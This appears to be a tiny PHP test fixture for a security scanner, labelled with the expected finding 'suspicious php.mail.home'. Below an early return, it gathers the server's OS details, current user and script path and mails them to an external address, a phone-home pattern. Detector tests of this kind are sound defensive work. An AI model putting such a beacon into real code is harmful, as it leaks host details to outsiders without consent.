<?php return; // want: suspicious php.mail.home
$text = 'on ' . php_uname() . ' as ' . get_current_user() . ' at ' . $_SERVER['SCRIPT_FILENAME'];
mail('someone@example.net', 'new', $text);
